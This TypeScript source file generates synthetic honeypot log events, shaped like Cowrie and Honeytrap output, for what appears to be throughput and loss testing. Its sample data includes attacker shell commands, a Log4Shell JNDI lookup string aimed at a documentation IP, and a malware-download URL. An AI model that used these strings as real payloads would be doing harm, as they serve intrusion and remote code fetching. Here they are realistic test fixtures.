/**
 * What the generated events look like: one valid PotEvent frame a call, in the documented form, ended by a newline.
 *
 * uniform  every event has the same length, the shape of a failed login
 * real     lengths and kinds as honeypots produce them: mostly short SSH session events, key exchanges around 1 KB,
 *          a tail of payload dumps up to 60 KB; escapes, text beyond ASCII, the timestamp spellings found in the field
 *
 * `data.number` is the event's number within its node's block: the verifier names lost events by it.
 */
import type { Random } from './random.js';

export type Mix = 'uniform' | 'real';

/** Every generated event starts with these bytes, then come the digits of the node id. */
export const EVENT_PREFIX = '{"version":2,"message":{"PotEvent":{"node_id":';
/** In front of the digits of an event's number. */
export const NUMBER_MARK = '"data":{"number":';

/** Below this the fixed part of a uniform event does not fit. */
export const UNIFORM_BYTES_MIN = 280;
/** What nodes are told to stay under. */
export const EVENT_BYTES_MAX = 64 * 1024;

interface Draft {
  readonly pot: string;
  readonly type: string;
  /** JSON members behind `number`, up to and with the opening quote of the string that takes the padding. */
  readonly before: string;
  readonly after: string;
  readonly padding: Padding;
}

type Padding = 'letters' | 'hex' | 'bytes' | 'words';

/** Classes of wire sizes with their shares, see {@link realEvent}. */
const SIZE_CLASSES = [
  { share: 0.52, low: 200, high: 400 },
  { share: 0.18, low: 400, high: 700 },
  { share: 0.2, low: 700, high: 1300 },
  { share: 0.07, low: 1300, high: 2560 },
  { share: 0.023, low: 2560, high: 8192 },
  { share: 0.006, low: 8192, high: 61_440 },
] as const;

const USERS = ['root', 'admin', 'pi', 'ubuntu', 'oracle', 'test', 'postgres', 'usuário', '管理员'] as const;
const BANNERS = ['SSH-2.0-Go', 'SSH-2.0-libssh2_1.10.0', 'SSH-2.0-OpenSSH_8.9p1', 'SSH-2.0-PUTTY'] as const;
const COMMANDS = [
  'uname -s -v -n -r -m',
  'cd ~; chattr -ia .ssh; lockr -ia .ssh',
  'cat /proc/cpuinfo | grep name | wc -l',
  'echo -e \\"\\\\x6F\\\\x6B\\" > /tmp/.x && cat \'/tmp/.x\'',
  '$' + '{jndi:ldap://198.51.100.9/a}\\u0000\\u001b[2J',
] as const;
const KEX =
  'curve25519-sha256,ecdh-sha2-nistp256,ecdh-sha2-nistp384,diffie-hellman-group14-sha256,aes128-ctr,hmac-sha2-256,';

/** Two backslashes, an x and two digits. */
const ESCAPED_BYTE_LENGTH = 5;
/** Room for the padding of the largest event, and to start in different places. */
const FILLER_BYTES = EVENT_BYTES_MAX + 4096;

export class EventMaker {
  readonly #random: Random;
  readonly #fillers = new Map<Padding, string>();

  constructor(random: Random) {
    this.#random = random;
  }

  /** An event of exactly `lengthBytes` with its newline. */
  uniform(nodeId: string, eventNumber: number, lengthBytes: number): string {
    const ip = this.#address();
    const before = `"src_ip":"${ip}","username":"${this.#random.pick(['root', 'admin', 'pi'])}","password":"`;
    const draft: Draft = { pot: 'cowrie', type: 'login.failed', before, after: '"', padding: 'letters' };
    return this.#frame(nodeId, eventNumber, draft, this.#timestamp('Z'), lengthBytes);
  }

  real(nodeId: string, eventNumber: number): string {
    const lengthBytes = this.#drawLength();
    const draft = this.#draft(lengthBytes);
    const spelling = this.#random.below(100);
    const zone = spelling < 90 ? 'Z' : spelling < 95 ? '' : '+02:00';
    return this.#frame(nodeId, eventNumber, draft, this.#timestamp(zone), lengthBytes);
  }

  #drawLength(): number {
    let rest = this.#random.u32() / 0x1_0000_0000;
    for (const { share, low, high } of SIZE_CLASSES) {
      if (rest < share) return this.#random.between(low, high);
      rest -= share;
    }
    return this.#random.between(SIZE_CLASSES[0].low, SIZE_CLASSES[0].high);
  }

  /** The kind of event that has this size in the field. */
  #draft(lengthBytes: number): Draft {
    const random = this.#random;
    const source = `"src_ip":"${this.#address()}","session":"${random.hex(12)}"`;
    if (lengthBytes < 400) return this.#sessionDraft(source);
    if (lengthBytes < 700) {
      if (random.below(2) === 0) {
        const attempts = `"auth_attempts":[{"timestamp":"2026-11-20 08:15:${random.between(10, 59)}.204811","username":"${random.pick(USERS)}"}]`;
        const before = `"source_ip":"${this.#address()}","duration":${random.below(90)},${attempts},"auxiliary_data":{},"password":"`;
        return { pot: 'heralding', type: 'auth', before, after: '"', padding: 'letters' };
      }
      const before = `${source},"shasum":"${random.hex(64)}","url":"http://198.51.100.7/bins/${random.hex(8)}.sh","outfile":"`;
      return {
        pot: 'cowrie',
        type: 'cowrie.session.file_download',
        before,
        after: '","late":true',
        padding: 'letters',
      };
    }
    if (lengthBytes < 2560) {
      const before = `${source},"hassh":"${random.hex(32)}","langCS":[""],"hasshAlgorithms":"`;
      return {
        pot: 'cowrie',
        type: 'cowrie.client.kex',
        before,
        after: '","compCS":["none","zlib"]',
        padding: 'words',
      };
    }
    if (lengthBytes < 8192) {
      const before = `${source},"dst_ip":"203.0.113.5","dst_port":443,"data":"b'`;
      return { pot: 'cowrie', type: 'cowrie.direct-tcpip.data', before, after: `'"`, padding: 'bytes' };
    }
    const before = `"remote_ip":"${this.#address()}","remote_port":${random.between(1024, 65_535)},"payload":{"md5":"${random.hex(32)}","data_hex":"`;
    return { pot: 'honeytrap', type: 'attack', before, after: '"}', padding: 'hex' };
  }

  #sessionDraft(source: string): Draft {
    const random = this.#random;
    const draw = random.below(100);
    const draft = (type: string, before: string, after = '"'): Draft => ({
      pot: 'cowrie',
      type: `cowrie.${type}`,
      before: `${source},${before}`,
      after,
      padding: 'letters',
    });
    if (draw < 25)
      return draft(
        'session.connect',
        `"src_port":${random.between(1024, 65_535)},"dst_port":2222,"message":"`,
      );
    if (draw < 50) return draft('session.closed', `"duration":${random.below(900) / 10},"message":"`);
    if (draw < 74) return draft('client.version', `"version":"${random.pick(BANNERS)}","message":"`);
    if (draw < 95) return draft('login.failed', `"username":"${random.pick(USERS)}","password":"`);
    if (draw < 98) return draft('command.input', `"input":"${random.pick(COMMANDS)}","message":"`);
    return draft('session.params', '"arch":"linux-x64-lsb","message":[],"sensor":"');
  }

  /** Puts the parts together and pads to the length; a draft that is already longer keeps its own. */
  #frame(nodeId: string, eventNumber: number, draft: Draft, timestamp: string, lengthBytes: number): string {
    const head =
      `${EVENT_PREFIX}${nodeId},"pot_id":"${draft.pot}-01","pot_type":"${draft.pot}","event_type":"${draft.type}",` +
      `"timestamp":"${timestamp}",${NUMBER_MARK}${eventNumber},${draft.before}`;
    const tail = `${draft.after}}}}}\n`;
    const missing = lengthBytes - Buffer.byteLength(head) - Buffer.byteLength(tail);
    return head + this.#pad(draft.padding, missing) + tail;
  }

  #pad(kind: Padding, bytes: number): string {
    if (bytes <= 0) return '';
    const filler = this.#filler(kind);
    if (kind !== 'bytes') {
      const from = this.#random.below(filler.length - bytes);
      return filler.slice(from, from + bytes);
    }
    // Whole escapes only; what is left over becomes letters.
    const unit = ESCAPED_BYTE_LENGTH;
    const whole = bytes - (bytes % unit);
    const from = this.#random.below(Math.floor((filler.length - whole) / unit)) * unit;
    return filler.slice(from, from + whole) + 'x'.repeat(bytes % unit);
  }

  /** Padding is cut from a text made once per kind, so that making an event stays cheap. */
  #filler(kind: Padding): string {
    let filler = this.#fillers.get(kind);
    if (filler === undefined) {
      const parts: string[] = [];
      for (let length = 0; length < FILLER_BYTES; length += parts.at(-1)!.length)
        parts.push(this.#fillerPart(kind));
      filler = parts.join('');
      this.#fillers.set(kind, filler);
    }
    return filler;
  }

  #fillerPart(kind: Padding): string {
    switch (kind) {
      case 'letters':
        return this.#random.u32().toString(36);
      case 'hex':
        return this.#random.hex(8);
      case 'words':
        return KEX;
      case 'bytes':
        // How a Python repr of binary data looks inside JSON: one byte of payload is five on the wire.
        return `\\\\x${this.#random.hex(2)}`;
    }
  }

  #timestamp(zone: string): string {
    const random = this.#random;
    const two = (bound: number): string => String(random.below(bound)).padStart(2, '0');
    const fraction = String(random.below(1_000_000)).padStart(6, '0');
    return `2026-11-${String(random.between(10, 30))}T${two(24)}:${two(60)}:${two(60)}.${fraction}${zone}`;
  }

  /** A few sources make most of the traffic. */
  #address(): string {
    const random = this.#random;
    const rank = Math.floor(random.below(65_536) ** 2 / 65_536);
    return `198.51.${100 + (rank % 3)}.${random.below(2) === 0 ? rank % 8 : rank % 256}`;
  }
}
